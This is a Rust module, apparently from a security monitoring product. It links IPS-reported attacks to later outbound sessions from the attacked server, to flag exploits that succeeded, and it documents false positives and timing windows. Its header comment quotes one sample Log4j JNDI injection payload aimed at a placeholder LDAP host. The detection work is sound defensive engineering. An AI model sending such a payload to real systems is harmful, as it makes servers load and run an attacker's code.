//! Did the attacked server then open a session to the attacker?
//!
//! Why: it is the one thing in firewall logs that proves an exploit succeeded. A server that was just attacked and
//! opens a session to the attacker, or to an address that the payload carried, runs the attacker's code.
//!
//! Example: IPS `action=detected attack=…Log4j… url="…${jndi:ldap://203.0.113.9:1389/a}"`, two minutes later traffic
//! from the server to 203.0.113.9 port 1389. A denied attempt proves the same.
//!
//! Known false positives, left out: late packets of the attacked service that look like a session of their own (source
//! port is the attacked port), active FTP (source port 20), bounces of a mail server (25) and a resolver's questions
//! (53) to somebody who wrote to them, ICMP. A carried address counts only on the port that the payload says, so that
//! `http://192.0.2.1/` in a payload does not turn every look-up there into a call-back.
//!
//! Any other outside address is an [`FindingKind::OtherContact`], once a server, address and device, and only on an unusual
//! port: on 25, 53, 80, 123 and 443 servers fetch updates every day, and without learned habit such a session says
//! nothing.
//!
//! ATT&CK: T1190, then T1105.

use std::net::IpAddr;
use std::sync::Arc;

use hinomi_model::{
    Class, DeviceId, Direction, Disposition, EventTime, Fact, FactSource, Finding, FindingId, FindingKind,
    Function, Peer, Protocol, Role, Settings, Subject, TenantId,
};

use super::carried::{self, Carried};
use super::kept::{Kept, Timed};
use super::wire::{In, Out, wire};
use super::{CLOCK_SLACK, Missed, Origin, Scene, asked_from, bare, identity, is_open_attack, plain};
use crate::tables::techniques;

/// Attacks kept of the last forty minutes.
const MAX_ATTACKS: usize = 1 << 16;
/// Attacks kept of one server; beyond, the oldest call-backs of a mass attack may be missed.
const MAX_ATTACKS_EACH: usize = 1024;
/// Outgoing sessions kept of the last forty minutes.
pub(super) const MAX_OPENED: usize = 1 << 18;
/// Outgoing sessions kept of one host.
const MAX_OPENED_EACH: usize = 4096;
/// Ports on which servers speak to the outside every day.
const USUAL_PORTS: [u16; 5] = [25, 53, 80, 123, 443];
const FTP_DATA: u16 = 20;

#[derive(Debug)]
pub(super) struct Callbacks {
    attacks: Kept<(TenantId, IpAddr), Attack>,
    opened: Kept<(TenantId, IpAddr), Opened>,
}

/// A session that a host inside opened to the outside.
#[derive(Debug)]
struct Opened {
    fact: Fact,
    /// Who logged it.
    device: DeviceId,
}

#[derive(Debug)]
struct Attack {
    question: Arc<Finding>,
    carried: Vec<Carried>,
}

wire! {
    Attack { question, carried }
    Opened { fact, device }
}

impl Timed for Opened {
    fn time(&self) -> EventTime {
        self.fact.time
    }
}

impl Timed for Attack {
    fn time(&self) -> EventTime {
        self.question.last
    }
}

impl Default for Callbacks {
    fn default() -> Self {
        Callbacks {
            attacks: Kept::new(MAX_ATTACKS, MAX_ATTACKS_EACH),
            opened: Kept::new(MAX_OPENED, MAX_OPENED_EACH),
        }
    }
}

impl Callbacks {
    /// Writes what is remembered.
    pub(super) fn put(&self, out: &mut Out) {
        self.attacks.put(out);
        self.opened.put(out);
    }

    /// Reads what was remembered.
    pub(super) fn get(input: &mut In<'_>) -> Option<Self> {
        let Callbacks { attacks, opened } = Callbacks::default();
        Some(Callbacks { attacks: attacks.filled(input)?, opened: opened.filled(input)? })
    }

    /// Forgets the older half.
    pub(super) fn shed(&mut self) {
        self.attacks.shed();
        self.opened.shed();
    }

    pub(super) fn ask(
        &mut self,
        scene: &Scene<'_>,
        finding: &Finding,
        missed: &mut Missed,
        out: &mut Vec<Finding>,
    ) {
        let Subject::Host(host) = finding.subject else { return };
        if !is_open_attack(finding) || finding.class == Class::Recon {
            return;
        }
        let mut carried = carried::of(finding);
        carried.retain(|(ip, _)| *ip != host && !scene.is_inside(&finding.tenant, *ip));
        let attack = Attack { question: Arc::new(bare(finding)), carried };
        let key = (finding.tenant.clone(), host);
        for opened in self.opened.of(&key) {
            compare(scene, &attack, (&opened.device, &opened.fact), out);
        }
        let from = asked_from(finding);
        if self.opened.may_have_lost(&key, from) {
            missed.note(key.clone(), from);
        }
        self.attacks.push(scene.clock, key, attack);
    }

    pub(super) fn learn(
        &mut self,
        scene: &Scene<'_>,
        source: &FactSource,
        fact: &Fact,
        out: &mut Vec<Finding>,
    ) {
        if is_opened(fact) {
            self.recall(scene, source, fact, out);
            let opened = Opened { fact: *fact, device: source.device.clone() };
            self.opened.push(scene.clock, (source.tenant.clone(), fact.src_ip), opened);
        }
    }

    /// Holds a session that may have been forgotten against the attacks.
    pub(super) fn recall(&self, scene: &Scene<'_>, source: &FactSource, fact: &Fact, out: &mut Vec<Finding>) {
        if is_opened(fact) {
            for attack in self.attacks.of(&(source.tenant.clone(), fact.src_ip)) {
                compare(scene, attack, (&source.device, fact), out);
            }
        }
    }

    pub(super) fn sweep(&mut self, before: EventTime) {
        self.attacks.sweep(before);
        self.opened.sweep(before);
    }
}

/// Tells whether a host inside opened a session to the outside that could carry a call-back.
fn is_opened(fact: &Fact) -> bool {
    let carries = fact.protocol == Protocol::TCP || fact.protocol == Protocol::UDP;
    fact.direction == Direction::Outbound && carries
}

fn compare(scene: &Scene<'_>, attack: &Attack, (device, fact): (&DeviceId, &Fact), out: &mut Vec<Finding>) {
    let question = &attack.question;
    let Some(attacker) = question.peers.first() else { return };
    let replies = attacker.port.is_some_and(|service| service == fact.src_port) || fact.src_port == FTP_DATA;
    if replies || !follows(scene.settings, question, fact.began) {
        return;
    }
    let role = scene.role(&question.tenant, fact.src_ip);
    let service =
        (role == Role::Mail && fact.dst_port == 25) || (role == Role::Resolver && fact.dst_port == 53);
    let called = attack
        .carried
        .iter()
        .any(|(ip, port)| *ip == fact.dst_ip && port.is_none_or(|port| port == fact.dst_port));
    if called || (fact.dst_ip == attacker.ip && !service) {
        out.push(contact(scene, &question.tenant, FindingKind::Callback, (device, fact)));
    } else if !USUAL_PORTS.contains(&fact.dst_port) && fact.dst_ip != attacker.ip {
        out.push(contact(scene, &question.tenant, FindingKind::OtherContact, (device, fact)));
    }
}

/// Tells whether a session began within the window after one of the attack's hits.
fn follows(settings: &Settings, question: &Finding, began: EventTime) -> bool {
    let after =
        |hit: EventTime| began.plus(CLOCK_SLACK) >= hit && began <= hit.plus(settings.callback_window);
    // Not every hit of a full list is known; then anything between first and last counts.
    let full = question.instants.len() >= Finding::MAX_INSTANTS;
    let between = full && began.plus(CLOCK_SLACK) >= question.first && began <= question.last;
    between
        || after(question.first)
        || after(question.last)
        || question.instants.iter().any(|hit| after(*hit))
}

/// Makes the finding of a session. It says what the session's own record says and nothing of the attack before it: of
/// several attacks that it follows none is first, however they arrived.
fn contact(
    scene: &Scene<'_>,
    tenant: &TenantId,
    kind: FindingKind,
    (device, fact): (&DeviceId, &Fact),
) -> Finding {
    let subject = Subject::Host(fact.src_ip);
    let print = identity(tenant, &subject, kind).text(&fact.dst_ip.to_string());
    let print = match kind {
        // Every call-back counts, once for both members of an HA pair; another contact once a day and device.
        FindingKind::Callback => {
            let began = fact.began.seconds();
            print.number(fact.dst_port.into()).number(began.into()).number(fact.src_port.into())
        }
        _ => print.number(fact.began.day().0.into()).text(device.as_str()),
    };
    let source = FactSource { tenant: tenant.clone(), device: device.clone() };
    let origin = Origin {
        tenant: tenant.clone(),
        device: device.clone(),
        vendor: scene.vendor(&source),
        function: Function::Firewall,
    };
    let mut finding = plain(&origin, subject, kind, FindingId(print.finish()), fact.began);
    finding.host = Some(scene.host(tenant, fact.src_ip));
    finding.direction = Direction::Outbound;
    finding.disposition = fact.disposition;
    finding.last = fact.time.max(fact.began);
    finding.received = fact.time;
    finding.count = u64::from(fact.count.max(1));
    finding.peers = vec![Peer { ip: fact.dst_ip, port: Some(fact.dst_port) }];
    finding.sessions = fact.session.into_iter().collect();
    finding.unsettled = fact.session.is_none();
    finding.technique = Some(techniques::TOOL_TRANSFER.to_owned());
    finding.bytes_in = fact.bytes_in;
    finding.bytes_out = Some(fact.bytes_out);
    if fact.disposition == Disposition::Blocked {
        finding.bytes_in = None;
    }
    finding.evidence = scene.objects.session(device.as_str(), fact).into_iter().collect();
    finding
}
